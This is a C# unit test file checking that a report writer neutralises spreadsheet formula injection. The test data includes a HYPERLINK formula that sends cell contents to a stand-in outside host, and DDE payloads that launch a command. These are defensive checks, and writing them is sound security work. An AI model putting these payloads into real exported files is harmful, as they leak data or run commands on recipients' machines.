using System.Xml.Linq;
using Patronage.Reporting.Printing;
using Patronage.Reporting.Reports;
using Patronage.Reporting.Tests.Documents;

namespace Patronage.Reporting.Tests.Printing;

/// <summary>Somebody writes a formula where a name belongs, and waits until an office opens the table.</summary>
public sealed class FormulaInjectionTests
{
    private static readonly XNamespace Sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    [Theory]
    [InlineData("=HYPERLINK(\"http://elsewhere.example/?\"&A1;\"Семья\")")]
    [InlineData("=cmd|'/c calc'!A1")]
    [InlineData("@SUM(1+1)*cmd|'/c calc'!A1")]
    [InlineData("+7 843 000-00-00")]
    [InlineData("-2+3")]
    [InlineData("-15")]
    [InlineData("  =1+1")]
    [InlineData("\t=1+1")]
    [InlineData("\n=1+1")]
    public void Text_ThatBeginsAsAFormula_IsATextAndStaysOneWhenItIsEdited(string text)
    {
        var file = XlsxWriter.Write(Of(text));

        Office.IsValidXlsx(file);
        foreach (var cell in Cells(file).Where(cell => cell.Value == text))
        {
            Assert.Null(cell.Element(Sheet + "f"));
            Assert.Equal("inlineStr", (string?)cell.Attribute("t"));
            Assert.Equal("1", (string?)StyleOf(file, cell).Attribute("quotePrefix"));
        }

        Assert.Equal(3, Cells(file).Count(cell => cell.Value == text));
    }

    [Fact]
    public void Carriage_ReturnBeforeAFormula_IsLeftOutAndTheRestIsAText()
    {
        var file = XlsxWriter.Write(Of("\r=1+1"));

        Assert.All(Cells(file).Where(cell => cell.Value == "=1+1"), cell => Assert.Equal("1", (string?)StyleOf(file, cell).Attribute("quotePrefix")));
        Assert.Equal(3, Cells(file).Count(cell => cell.Value == "=1+1"));
    }

    [Fact]
    public void Number_BelowZero_StaysANumberAndAnOrdinaryTextHasNoMark()
    {
        var file = XlsxWriter.Write(new ReportSheet("Отчёт", "Центр", "2026", [new("Имя", 3), new("Число", 2)], [[new("Петрова"), new("-15", -15)]]));

        var number = Assert.Single(Cells(file), cell => cell.Value == "-15");
        Assert.Equal("n", (string?)number.Attribute("t"));
        Assert.All(Cells(file), cell => Assert.Null(StyleOf(file, cell).Attribute("quotePrefix")));
    }

    [Theory]
    [InlineData("Петрова\u0000\u0001\u001B[31m")]
    [InlineData("Петрова\uD800")]
    [InlineData("Петрова\uFFFE")]
    public void Text_WithSignsThatNoFileMayHold_DoesNotStopTheWholeFile(string text)
    {
        Assert.Contains(Cells(XlsxWriter.Write(Of(text))), cell => cell.Value.StartsWith("Петрова", StringComparison.Ordinal));
        Assert.Contains("Петрова", Office.TextOf(DocxWriter.Write(Of(text).ToDocument())), StringComparison.Ordinal);
    }

    // The title, a heading and a cell.
    private static ReportSheet Of(string text) => new(text, "Центр", "2026", [new(text, 3)], [[new(text)]]);

    private static IEnumerable<XElement> Cells(byte[] file) => Office.Part(file, "xl/worksheets/sheet1.xml").Descendants(Sheet + "c");

    private static XElement StyleOf(byte[] file, XElement cell) => Office.Part(file, "xl/styles.xml").Descendants(Sheet + "cellXfs").Elements().ElementAt((int)cell.Attribute("s")!);
}
